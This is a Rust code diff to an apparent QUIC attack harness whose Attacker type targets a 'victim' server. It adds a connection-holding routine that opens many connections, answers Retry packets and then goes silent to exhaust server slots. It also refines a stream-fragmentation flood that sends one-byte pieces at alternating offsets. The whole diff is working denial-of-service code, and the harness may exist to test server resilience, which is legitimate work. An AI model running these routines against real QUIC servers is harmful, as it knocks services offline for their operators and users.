@@ -25,6 +25,9 @@ const BURST: u64 = 32;
 const PAUSE: Duration = Duration::from_micros(500);
 /// Longest wait for an answer in a handshake.
 const ANSWER: Duration = Duration::from_secs(5);
+/// Longest wait for the first answer to a packet that begins a connection: a server without room for
+/// it does not answer.
+const FIRST_ANSWER: Duration = Duration::from_millis(50);
 /// Interval at which it is looked for answers.
 const TICK: Duration = Duration::from_millis(1);
 /// Connections in a row that may fail: a server that is busy, or has enough of them, takes others later.
@@ -94,6 +97,26 @@ impl Attacker {
         Ok(outcome)
     }
 
+    /// Begins `connections` connections, validates its address for each where it is asked to, and lets
+    /// nothing follow.
+    pub fn hold(&mut self, connections: u64) -> Result<Outcome, Box<dyn Error + Send + Sync>> {
+        let (config, mut outcome) = (self.config()?, Outcome::default());
+        for _ in 0..connections {
+            let mut victim = self.dial(config.clone())?;
+            self.transmit(&mut victim, |_| true);
+            outcome.packets += 1;
+            let began = Instant::now();
+            while began.elapsed() < FIRST_ANSWER {
+                if self.receive(&mut victim, is_retry) > 0 {
+                    self.transmit(&mut victim, |_| true);
+                    break;
+                }
+                thread::sleep(TICK);
+            }
+        }
+        Ok(outcome)
+    }
+
     /// Sends `packets` full packets, each with one byte of a stream, at every second offset, over
     /// connections of new keys: up to `each` packets over one, while it allows more.
     pub fn fragment(
@@ -131,18 +154,32 @@ impl Attacker {
                 self.transmit(&mut victim, |_| true);
                 self.pace(&mut outcome);
             }
-            thread::sleep(10 * TICK);
-            self.receive(&mut victim);
-            while let Some(event) = victim.connection.poll() {
-                if let Event::ConnectionLost { reason } = event {
-                    outcome.closed += 1;
-                    if let ConnectionError::ApplicationClosed(close) = reason {
-                        outcome.code = Some(close.error_code.into_inner());
-                    }
-                }
+            // Its close may be late; the last connection's is waited for.
+            let wait = match outcome.packets < packets {
+                true => 10 * TICK,
+                false => ANSWER,
+            };
+            let began = Instant::now();
+            while !self.is_closed(&mut victim, &mut outcome) && began.elapsed() < wait {
+                thread::sleep(TICK);
             }
         }
         Ok(outcome)
+    }
+
+    /// Whether the peer has closed the connection, which is counted.
+    fn is_closed(&mut self, victim: &mut Victim, outcome: &mut Outcome) -> bool {
+        self.receive(victim, |_| true);
+        while let Some(event) = victim.connection.poll() {
+            if let Event::ConnectionLost { reason } = event {
+                outcome.closed += 1;
+                if let ConnectionError::ApplicationClosed(close) = reason {
+                    outcome.code = Some(close.error_code.into_inner());
+                }
+                return true;
+            }
+        }
+        false
     }
 
     fn pace(&self, outcome: &mut Outcome) {
@@ -203,7 +240,7 @@ impl Attacker {
                 victim.connection.handle_timeout(now);
             }
             self.transmit(&mut victim, |_| true);
-            self.receive(&mut victim);
+            self.receive(&mut victim, |_| true);
             while let Some(event) = victim.connection.poll() {
                 match event {
                     Event::ConnectionLost { reason } => return Err(reason.into()),
@@ -211,7 +248,7 @@ impl Attacker {
                         self.transmit(&mut victim, |_| true);
                         // Until the server has confirmed the handshake.
                         thread::sleep(10 * TICK);
-                        self.receive(&mut victim);
+                        self.receive(&mut victim, |_| true);
                         self.transmit(&mut victim, |_| true);
                         return Ok(victim);
                     }
@@ -246,14 +283,19 @@ impl Attacker {
         }
     }
 
-    /// Takes in what has arrived for `victim`.
-    fn receive(&mut self, victim: &mut Victim) {
-        let mut response = Vec::new();
+    /// Takes in what has arrived for `victim` that `passes` lets through. Returns the number of packets
+    /// that have arrived.
+    fn receive(&mut self, victim: &mut Victim, passes: impl Fn(&[u8]) -> bool) -> usize {
+        let (mut response, mut arrived) = (Vec::new(), 0);
         while self.socket.try_receive(&mut self.buffer).is_ok() {
             for arrival in self.socket.packets(&mut self.buffer) {
                 let Arrival::Datagram(datagram) = arrival else {
                     continue;
                 };
+                arrived += 1;
+                if !passes(datagram.payload) {
+                    continue;
+                }
                 let path = FourTuple::from_remote(remote());
                 let data = BytesMut::from(datagram.payload);
                 let now = Instant::now();
@@ -271,7 +313,13 @@ impl Attacker {
                 response.clear();
             }
         }
+        arrived
     }
+}
+
+/// Whether a packet is a Retry (RFC 9000, 17.2.5).
+fn is_retry(packet: &[u8]) -> bool {
+    packet.first().is_some_and(|first| first & 0xf0 == 0xf0)
 }
 
 /// The peer's address as QUIC sees it.
